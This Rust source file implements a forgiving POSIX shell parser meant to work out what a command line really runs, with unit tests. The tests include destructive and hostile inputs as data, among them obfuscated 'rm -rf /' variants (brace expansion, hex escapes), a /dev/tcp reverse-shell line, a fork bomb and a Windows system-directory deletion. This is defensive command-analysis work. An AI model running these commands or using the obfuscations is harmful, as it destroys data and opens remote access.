//! A forgiving POSIX-shell parser: enough structure (pipelines, redirections, substitutions,
//! function bodies) to judge what a command line runs. It never fails; input it cannot make
//! sense of is reported through [`Script::complete`].

/// A command nested inside a word: `$(..)`, backticks, or a process substitution `<(..)`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Substitution {
    pub script: String,
}

/// One shell word after quote removal. Expansions (`$HOME`, `$(..)`) are kept as written.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    pub text: String,
    pub substitutions: Vec<Substitution>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectKind {
    /// `>`, `>|`, `&>`, `>&` to a file.
    Write,
    /// `>>`, `&>>`.
    Append,
    /// `<`, `<>`, here-documents and here-strings.
    Read,
    /// `2>&1`, `>&2`, `<&0`: copies a descriptor, touches no file.
    Duplicate,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub kind: RedirectKind,
    pub target: Word,
    /// The text a here-document (`<<EOF`) or here-string (`<<<`) feeds the command.
    pub input: Option<String>,
}

/// A program with its words and redirections.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SimpleCommand {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    /// The innermost function whose body holds this command.
    pub in_function: Option<String>,
}

/// Commands joined by `|`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Pipeline {
    pub commands: Vec<SimpleCommand>,
    /// Ended by `&`.
    pub background: bool,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Script {
    pub pipelines: Vec<Pipeline>,
    /// False when quotes, substitutions or groups were left open, or an operator lacked its operand.
    pub complete: bool,
    /// The keyword that would close a compound command left open (`done` after `for x in y; do`).
    pub unclosed_compound: Option<&'static str>,
}

/// Parses `source`; never panics, whatever the input.
pub fn parse(source: &str) -> Script {
    let chars: Vec<char> = source.chars().collect();
    let mut lexer = Lexer { chars: &chars, pos: 0, complete: true, heredocs: Vec::new() };
    let tokens = lexer.tokens();
    let mut builder = Builder::default();
    for token in tokens {
        builder.push(token);
    }
    builder.finish(lexer.complete)
}

#[derive(Debug)]
enum Token {
    Word(Word),
    Redirect(Redirect),
    /// `|`, `|&`, `&&`, `||`, `;`, `;;`, `&`, `(`, `)`, newline (as `;`).
    Operator(&'static str),
}

struct Lexer<'a> {
    chars: &'a [char],
    pos: usize,
    complete: bool,
    /// Here-document delimiters whose bodies start after the next newline.
    heredocs: Vec<(String, bool)>,
}

impl Lexer<'_> {
    fn peek(&self, offset: usize) -> Option<char> {
        self.chars.get(self.pos + offset).copied()
    }

    fn tokens(&mut self) -> Vec<Token> {
        let mut tokens = Vec::new();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\r' => self.pos += 1,
                '\n' => {
                    self.pos += 1;
                    let bodies = self.skip_heredoc_bodies();
                    fill_heredoc_bodies(&mut tokens, bodies);
                    tokens.push(Token::Operator(";"));
                }
                '#' => self.skip_comment(),
                '\\' if self.peek(1) == Some('\n') => self.pos += 2,
                _ => {
                    if let Some(op) = self.operator() {
                        tokens.push(Token::Operator(op));
                    } else if let Some(redirect) = self.redirect(None) {
                        tokens.push(Token::Redirect(redirect));
                    } else {
                        let word = self.word();
                        // A bare number glued to `<` or `>` is the descriptor of a redirection.
                        let is_fd = !word.text.is_empty() && word.text.chars().all(|d| d.is_ascii_digit());
                        if is_fd {
                            if let Some(redirect) = self.redirect(Some(&word)) {
                                tokens.push(Token::Redirect(redirect));
                                continue;
                            }
                        }
                        tokens.push(Token::Word(word));
                    }
                }
            }
        }
        if !self.heredocs.is_empty() {
            self.complete = false;
        }
        tokens
    }

    fn skip_comment(&mut self) {
        while let Some(c) = self.peek(0) {
            if c == '\n' {
                break;
            }
            self.pos += 1;
        }
    }

    /// Moves past the bodies of the pending here-documents and returns them, in order.
    fn skip_heredoc_bodies(&mut self) -> Vec<String> {
        let mut bodies = Vec::new();
        for (delimiter, strip_tabs) in std::mem::take(&mut self.heredocs) {
            let mut body = String::new();
            loop {
                let start = self.pos;
                while self.peek(0).is_some_and(|c| c != '\n') {
                    self.pos += 1;
                }
                let line: String = self.chars.get(start..self.pos).unwrap_or_default().iter().collect();
                let at_end = self.peek(0).is_none();
                self.pos += 1;
                let line = if strip_tabs { line.trim_start_matches('\t') } else { line.as_str() };
                if line == delimiter {
                    break;
                }
                body.push_str(line);
                body.push('\n');
                if at_end {
                    self.pos = self.chars.len();
                    self.complete = false;
                    bodies.push(body);
                    return bodies;
                }
            }
            bodies.push(body);
        }
        bodies
    }

    fn operator(&mut self) -> Option<&'static str> {
        let (op, len) = match (self.peek(0)?, self.peek(1)) {
            ('|', Some('|')) => ("||", 2),
            ('|', Some('&')) => ("|", 2),
            ('|', _) => ("|", 1),
            ('&', Some('&')) => ("&&", 2),
            ('&', Some('>')) => return None,
            ('&', _) => ("&", 1),
            (';', Some(';')) => (";", 2),
            (';', _) => (";", 1),
            ('(', _) => ("(", 1),
            (')', _) => (")", 1),
            _ => return None,
        };
        self.pos += len;
        Some(op)
    }

    /// Reads a redirection operator and its target at the cursor, if one is there.
    fn redirect(&mut self, fd: Option<&Word>) -> Option<Redirect> {
        let rest = |n: usize| -> String { (0..n).filter_map(|i| self.peek(i)).collect() };
        // Process substitutions start like redirections but are words.
        if fd.is_none() && matches!(rest(2).as_str(), "<(" | ">(") {
            return None;
        }
        let three = rest(3);
        let two = rest(2);
        let (kind, len) = if three == "<<<" {
            (RedirectKind::Read, 3)
        } else if three == "&>>" {
            (RedirectKind::Append, 3)
        } else if three == "<<-" || two == "<<" {
            let len = if three == "<<-" { 3 } else { 2 };
            self.pos += len;
            let target = self.target();
            self.heredocs.push((target.text.clone(), len == 3));
            // The body follows the next newline; `skip_heredoc_bodies` fills it in.
            return Some(Redirect { kind: RedirectKind::Read, target, input: Some(String::new()) });
        } else {
            match two.as_str() {
                ">>" => (RedirectKind::Append, 2),
                ">|" | "&>" => (RedirectKind::Write, 2),
                ">&" | "<&" => {
                    self.pos += 2;
                    let target = self.target();
                    let copies = target.text.chars().all(|c| c.is_ascii_digit() || c == '-');
                    let kind = if copies { RedirectKind::Duplicate } else { RedirectKind::Write };
                    return Some(Redirect { kind, target, input: None });
                }
                "<>" => (RedirectKind::Read, 2),
                _ => match self.peek(0)? {
                    '>' => (RedirectKind::Write, 1),
                    '<' => (RedirectKind::Read, 1),
                    _ => return None,
                },
            }
        };
        self.pos += len;
        let target = self.target();
        let input = (three == "<<<").then(|| target.text.clone());
        Some(Redirect { kind, target, input })
    }

    fn target(&mut self) -> Word {
        while matches!(self.peek(0), Some(' ' | '\t')) {
            self.pos += 1;
        }
        let word = self.word();
        if word.text.is_empty() && word.substitutions.is_empty() {
            self.complete = false;
        }
        word
    }

    fn word(&mut self) -> Word {
        let mut word = Word::default();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\r' | '\n' | '|' | '&' | ';' | '(' | ')' => break,
                '<' | '>' => {
                    if self.peek(1) == Some('(') && word.text.is_empty() {
                        let open = self.pos;
                        self.pos += 2;
                        self.substitution(open, &mut word);
                    } else {
                        break;
                    }
                }
                '\\' if is_windows_path(&word.text) => {
                    word.text.push('\\');
                    self.pos += 1;
                }
                '\\' => {
                    if let Some(next) = self.peek(1) {
                        if next != '\n' {
                            word.text.push(next);
                        }
                    }
                    self.pos += 2;
                }
                '\'' => {
                    self.pos += 1;
                    self.single_quoted(&mut word.text);
                }
                '"' => {
                    self.pos += 1;
                    self.double_quoted(&mut word);
                }
                '`' => self.backticks(&mut word),
                '$' => self.dollar(&mut word),
                _ => {
                    word.text.push(c);
                    self.pos += 1;
                }
            }
        }
        word
    }

    fn single_quoted(&mut self, out: &mut String) {
        loop {
            match self.peek(0) {
                None => {
                    self.complete = false;
                    return;
                }
                Some('\'') => {
                    self.pos += 1;
                    return;
                }
                Some(c) => {
                    out.push(c);
                    self.pos += 1;
                }
            }
        }
    }

    fn double_quoted(&mut self, word: &mut Word) {
        loop {
            match self.peek(0) {
                None => {
                    self.complete = false;
                    return;
                }
                Some('"') => {
                    self.pos += 1;
                    return;
                }
                Some('\\') => {
                    match self.peek(1) {
                        Some(next @ ('$' | '`' | '"' | '\\')) => word.text.push(next),
                        Some('\n') | None => {}
                        Some(next) => {
                            word.text.push('\\');
                            word.text.push(next);
                        }
                    }
                    self.pos += 2;
                }
                Some('`') => self.backticks(word),
                Some('$') => self.dollar(word),
                Some(c) => {
                    word.text.push(c);
                    self.pos += 1;
                }
            }
        }
    }

    /// `$(..)`, `$((..))`, `${..}`, `$'..'` or a plain `$`.
    fn dollar(&mut self, word: &mut Word) {
        let open = self.pos;
        match self.peek(1) {
            Some('(') => {
                self.pos += 2;
                if self.peek(0) == Some('(') {
                    // Arithmetic: keep the text, nothing runs.
                    match matching_paren(self.chars, self.pos) {
                        Some(close) => self.pos = close + 1,
                        None => {
                            self.complete = false;
                            self.pos = self.chars.len();
                        }
                    }
                    word.text.extend(self.chars.get(open..self.pos).unwrap_or_default());
                } else {
                    self.substitution(open, word);
                }
            }
            Some('{') => {
                let end = self.chars.get(open..).unwrap_or_default().iter().position(|&c| c == '}');
                let end = match end {
                    Some(offset) => open + offset + 1,
                    None => {
                        self.complete = false;
                        self.chars.len()
                    }
                };
                word.text.extend(self.chars.get(open..end).unwrap_or_default());
                self.pos = end;
            }
            Some('\'') => {
                self.pos += 2;
                self.ansi_c_quoted(&mut word.text);
            }
            _ => {
                word.text.push('$');
                self.pos += 1;
            }
        }
    }

    /// Reads a `$(`/`<(`/`>(` body whose opening starts at `open`; the cursor is past the `(`.
    fn substitution(&mut self, open: usize, word: &mut Word) {
        let close = match matching_paren(self.chars, self.pos) {
            Some(close) => close,
            None => {
                self.complete = false;
                self.chars.len()
            }
        };
        let script: String = self.chars.get(self.pos..close).unwrap_or_default().iter().collect();
        let end = (close + 1).min(self.chars.len());
        word.text.extend(self.chars.get(open..end).unwrap_or_default());
        word.substitutions.push(Substitution { script });
        self.pos = end;
    }

    fn backticks(&mut self, word: &mut Word) {
        self.pos += 1;
        let mut script = String::new();
        loop {
            match self.peek(0) {
                None => {
                    self.complete = false;
                    break;
                }
                Some('`') => {
                    self.pos += 1;
                    break;
                }
                Some('\\') => {
                    if let Some(next) = self.peek(1) {
                        if !matches!(next, '`' | '\\' | '$') {
                            script.push('\\');
                        }
                        script.push(next);
                    }
                    self.pos += 2;
                }
                Some(c) => {
                    script.push(c);
                    self.pos += 1;
                }
            }
        }
        word.text.push('`');
        word.text.push_str(&script);
        word.text.push('`');
        word.substitutions.push(Substitution { script });
    }

    /// `$'..'` strings, where escapes such as `\x72` can spell out program names.
    fn ansi_c_quoted(&mut self, out: &mut String) {
        loop {
            match self.peek(0) {
                None => {
                    self.complete = false;
                    return;
                }
                Some('\'') => {
                    self.pos += 1;
                    return;
                }
                Some('\\') => {
                    self.pos += 1;
                    self.ansi_c_escape(out);
                }
                Some(c) => {
                    out.push(c);
                    self.pos += 1;
                }
            }
        }
    }

    fn ansi_c_escape(&mut self, out: &mut String) {
        let Some(c) = self.peek(0) else { return };
        self.pos += 1;
        let numeric = |lexer: &mut Self, radix: u32, max_digits: usize| {
            let mut value = 0u32;
            let mut digits = 0;
            while digits < max_digits {
                match lexer.peek(0).and_then(|d| d.to_digit(radix)) {
                    Some(d) => {
                        value = value * radix + d;
                        lexer.pos += 1;
                        digits += 1;
                    }
                    None => break,
                }
            }
            char::from_u32(value)
        };
        let decoded = match c {
            'n' => Some('\n'),
            't' => Some('\t'),
            'r' => Some('\r'),
            'a' => Some('\u{7}'),
            'b' => Some('\u{8}'),
            'e' | 'E' => Some('\u{1b}'),
            'x' => numeric(self, 16, 2),
            'u' => numeric(self, 16, 4),
            'U' => numeric(self, 16, 8),
            '0'..='7' => {
                self.pos -= 1;
                numeric(self, 8, 3)
            }
            other => Some(other),
        };
        out.extend(decoded);
    }
}

/// True when a word so far reads as a Windows path (`C:`, `.\\`, `%VAR%`, or one that already has a
/// backslash), where `\\` separates directories instead of escaping the next character.
fn is_windows_path(so_far: &str) -> bool {
    so_far.ends_with([':', '.', '%']) || so_far.contains('\\')
}

/// Gives the here-documents still waiting for their body (an empty `input`) the bodies read
/// after the line that opened them, in order.
fn fill_heredoc_bodies(tokens: &mut [Token], bodies: Vec<String>) {
    let waiting = tokens.iter_mut().filter_map(|token| match token {
        Token::Redirect(Redirect { input: Some(input), .. }) if input.is_empty() => Some(input),
        _ => None,
    });
    let waiting: Vec<&mut String> = waiting.collect();
    let skip = waiting.len().saturating_sub(bodies.len());
    for (input, body) in waiting.into_iter().skip(skip).zip(bodies) {
        *input = body;
    }
}

/// Index of the `)` closing a `(` whose body starts at `start`, honouring quotes and nesting.
/// Iterative, so deeply nested input cannot exhaust the stack.
pub(crate) fn matching_paren(chars: &[char], start: usize) -> Option<usize> {
    #[derive(Clone, Copy, PartialEq)]
    enum Context {
        Paren,
        Double,
        Backtick,
    }
    let mut stack = vec![Context::Paren];
    let mut i = start;
    while let Some(&c) = chars.get(i) {
        let context = *stack.last()?;
        match (context, c) {
            (_, '\\') => i += 1,
            (Context::Paren, '\'') => {
                i += 1;
                while chars.get(i).is_some_and(|&q| q != '\'') {
                    i += 1;
                }
            }
            (Context::Paren, '"') => stack.push(Context::Double),
            (Context::Paren, '(') => stack.push(Context::Paren),
            (Context::Paren, ')') => {
                stack.pop();
                if stack.is_empty() {
                    return Some(i);
                }
            }
            (Context::Double, '"') | (Context::Backtick, '`') => {
                stack.pop();
            }
            (Context::Double, '$') if chars.get(i + 1) == Some(&'(') => {
                stack.push(Context::Paren);
                i += 1;
            }
            (Context::Paren | Context::Double, '`') => stack.push(Context::Backtick),
            _ => {}
        }
        i += 1;
    }
    None
}

/// The words of a brace expansion that spells a whole command, like `{rm,-rf,/}`.
fn brace_list(word: &Word) -> Option<Vec<String>> {
    let inner = word.text.strip_prefix('{')?.strip_suffix('}')?;
    let plain = inner.contains(',') && !inner.contains(['{', '}']) && word.substitutions.is_empty();
    plain.then(|| inner.split(',').map(str::to_string).collect())
}

/// Turns tokens into pipelines, tracking groups and function bodies.
#[derive(Default)]
struct Builder {
    script: Script,
    pipeline: Pipeline,
    command: SimpleCommand,
    /// The previous command ended with `|`, so the next one joins the pipeline.
    piped: bool,
    /// Open `(` and `{` groups.
    depth: usize,
    unbalanced: bool,
    /// A `name()` header waiting for its body.
    pending_function: Option<String>,
    /// Functions being defined, with the group depth their body opened at.
    functions: Vec<(String, usize)>,
    last_was_function_header: bool,
    /// The closing keywords of the compound commands open so far, innermost last.
    compounds: Vec<&'static str>,
}

impl Builder {
    fn push(&mut self, token: Token) {
        let after_header = std::mem::take(&mut self.last_was_function_header);
        match token {
            Token::Word(word) => self.word(word),
            Token::Redirect(redirect) => {
                self.start_command();
                self.command.redirects.push(redirect);
            }
            Token::Operator("(") => {
                let named_here = self.command.words.len() == 1 && self.command.redirects.is_empty();
                let named_by_keyword = self.command.words.is_empty() && self.pending_function.is_some();
                if (named_here || named_by_keyword) && !after_header {
                    if named_here {
                        let name = self.command.words.pop().map(|w| w.text).unwrap_or_default();
                        self.command = SimpleCommand::default();
                        self.pending_function = Some(name);
                    }
                    self.last_was_function_header = true;
                    self.depth += 1;
                    return;
                }
                self.open_group();
            }
            Token::Operator(")") => {
                if after_header {
                    // The `)` of `name()`: undo the depth counted for its `(`.
                    self.depth = self.depth.saturating_sub(1);
                    return;
                }
                self.close_group();
            }
            Token::Operator("|") => {
                self.end_command();
                if self.pipeline.commands.is_empty() {
                    self.unbalanced = true;
                }
                self.piped = true;
            }
            Token::Operator("&") => {
                self.end_command();
                self.end_pipeline(true);
            }
            Token::Operator(_) => {
                self.end_command();
                self.end_pipeline(false);
            }
        }
    }

    fn word(&mut self, mut word: Word) {
        let at_start = self.command.words.is_empty();
        if let Some(items) = brace_list(&word).filter(|_| at_start) {
            // `{rm,-rf,/}` expands to the words `rm -rf /`.
            for text in items {
                self.word(Word { text, substitutions: Vec::new() });
            }
            return;
        }
        if at_start && word.text.starts_with('{') && word.substitutions.is_empty() {
            // `{` opens a group; tolerate a missing space as in `f(){ f|f& }`.
            let rest = word.text.trim_start_matches('{');
            for _ in 0..word.text.len() - rest.len() {
                self.open_group();
            }
            if rest.is_empty() {
                return;
            }
            word.text = rest.to_string();
        }
        if at_start {
            match word.text.as_str() {
                "if" => self.compounds.push("fi"),
                "while" | "until" | "for" | "select" => self.compounds.push("done"),
                "case" => self.compounds.push("esac"),
                closer @ ("fi" | "done" | "esac") if self.compounds.last() == Some(&closer) => {
                    self.compounds.pop();
                }
                _ => {}
            }
            match word.text.as_str() {
                "}" => return self.close_group(),
                "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!" | "fi" | "done" | "esac" => return,
                _ => {}
            }
        }
        if self.command.words.len() == 1 && self.command.words.first().is_some_and(|w| w.text == "function") {
            // `function name { ...; }`: the keyword form of a definition.
            self.command = SimpleCommand::default();
            self.pending_function = Some(word.text);
            return;
        }
        self.start_command();
        self.command.words.push(word);
    }

    fn open_group(&mut self) {
        self.end_command();
        if let Some(name) = self.pending_function.take() {
            self.functions.push((name, self.depth));
        }
        self.depth += 1;
    }

    fn close_group(&mut self) {
        self.end_command();
        if self.depth == 0 {
            self.unbalanced = true;
            return;
        }
        self.depth -= 1;
        if self.functions.last().is_some_and(|(_, depth)| *depth == self.depth) {
            self.functions.pop();
        }
    }

    /// Called before a command's first word or redirection: a new command that was not
    /// piped into starts a new pipeline.
    fn start_command(&mut self) {
        if self.command.words.is_empty() && self.command.redirects.is_empty() {
            if !self.piped {
                self.end_pipeline(false);
            }
            self.piped = false;
            self.command.in_function = self.functions.last().map(|(name, _)| name.clone());
        }
    }

    fn end_command(&mut self) {
        let command = std::mem::take(&mut self.command);
        if !command.words.is_empty() || !command.redirects.is_empty() {
            self.pipeline.commands.push(command);
        }
    }

    fn end_pipeline(&mut self, background: bool) {
        if self.piped {
            self.unbalanced = true;
            self.piped = false;
        }
        let mut pipeline = std::mem::take(&mut self.pipeline);
        if !pipeline.commands.is_empty() {
            pipeline.background = background;
            self.script.pipelines.push(pipeline);
        }
    }

    fn finish(mut self, lexed_fully: bool) -> Script {
        self.end_command();
        let dangling_pipe = self.piped;
        self.piped = false;
        self.end_pipeline(false);
        self.script.complete = lexed_fully && !self.unbalanced && !dangling_pipe && self.depth == 0;
        self.script.unclosed_compound = self.compounds.last().copied();
        self.script
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(command: &SimpleCommand) -> Vec<&str> {
        command.words.iter().map(|w| w.text.as_str()).collect()
    }

    fn first(source: &str) -> SimpleCommand {
        parse(source).pipelines.remove(0).commands.remove(0)
    }

    #[test]
    fn quotes_and_escapes_are_removed() {
        assert_eq!(texts(&first("{rm,-rf,/} {a,b}")), ["rm", "-rf", "/", "{a,b}"]);
        assert_eq!(texts(&first(r#"r''m -rf "/" \~ 'a b' "x\"y" a\ b"#)), ["rm", "-rf", "/", "~", "a b", "x\"y", "a b"]);
        assert_eq!(texts(&first(r"\rm $'\x72\x6d' $'\162'")), ["rm", "rm", "r"]);
        assert_eq!(texts(&first(r"rd /s C:\Windows\System32 C:\ .\build")), ["rd", "/s", r"C:\Windows\System32", r"C:\", r".\build"]);
        assert_eq!(texts(&first(r#""a\nb""#)), ["a\\nb"]);
    }

    #[test]
    fn lists_pipelines_and_background() {
        let script = parse("a | b |& c; d && e || f & g\nh");
        let shapes: Vec<(usize, bool)> = script.pipelines.iter().map(|p| (p.commands.len(), p.background)).collect();
        assert_eq!(shapes, [(3, false), (1, false), (1, false), (1, true), (1, false), (1, false)]);
        assert!(script.complete);
    }

    #[test]
    fn redirections() {
        let command = first("cmd >out 2>>log < in 2>&1 >&2 &> all >| f <<< s");
        let kinds: Vec<(RedirectKind, &str)> = command.redirects.iter().map(|r| (r.kind, r.target.text.as_str())).collect();
        assert_eq!(
            kinds,
            [
                (RedirectKind::Write, "out"),
                (RedirectKind::Append, "log"),
                (RedirectKind::Read, "in"),
                (RedirectKind::Duplicate, "1"),
                (RedirectKind::Duplicate, "2"),
                (RedirectKind::Write, "all"),
                (RedirectKind::Write, "f"),
                (RedirectKind::Read, "s"),
            ]
        );
        assert_eq!(texts(&command), ["cmd"]);
        let tcp = first("bash -i >& /dev/tcp/h/1 0>&1");
        assert_eq!(tcp.redirects.first().map(|r| (r.kind, r.target.text.as_str())), Some((RedirectKind::Write, "/dev/tcp/h/1")));
    }

    #[test]
    fn substitutions_are_captured() {
        let command = first(r#"echo "$(rm -rf "/")" `ls \`pwd\`` <(curl x) $((1+2)) ${HOME}"#);
        let subs: Vec<&str> = command.words.iter().flat_map(|w| &w.substitutions).map(|s| s.script.as_str()).collect();
        assert_eq!(subs, [r#"rm -rf "/""#, "ls `pwd`", "curl x"]);
        assert_eq!(command.words.get(4).map(|w| w.text.as_str()), Some("$((1+2))"));
        assert_eq!(command.words.get(5).map(|w| w.text.as_str()), Some("${HOME}"));
    }

    #[test]
    fn groups_subshells_and_functions() {
        let script = parse(":(){ :|:& };:");
        assert!(script.complete);
        let body = &script.pipelines[0];
        assert!(body.background);
        assert_eq!(body.commands.len(), 2);
        assert_eq!(body.commands[0].in_function.as_deref(), Some(":"));
        assert_eq!(script.pipelines[1].commands[0].in_function, None);
        let script = parse("(cd x && make) ; { ls; }");
        assert_eq!(script.pipelines.len(), 3);
        assert!(script.complete);
        assert!(parse("function f { f | f & }; f").pipelines[0].commands[0].in_function.is_some());
    }

    #[test]
    fn heredoc_bodies_are_skipped() {
        let script = parse("cat <<EOF\nrm -rf /\nEOF\necho done");
        assert_eq!(script.pipelines.len(), 2);
        assert!(script.complete);
    }

    #[test]
    fn incomplete_input_is_reported() {
        for source in ["echo 'open", "echo \"open", "echo $(ls", "ls |", "(ls", "ls )", "cat <<EOF\nx"] {
            assert!(!parse(source).complete, "{source}");
        }
        assert!(parse("# comment only").complete);
    }
}
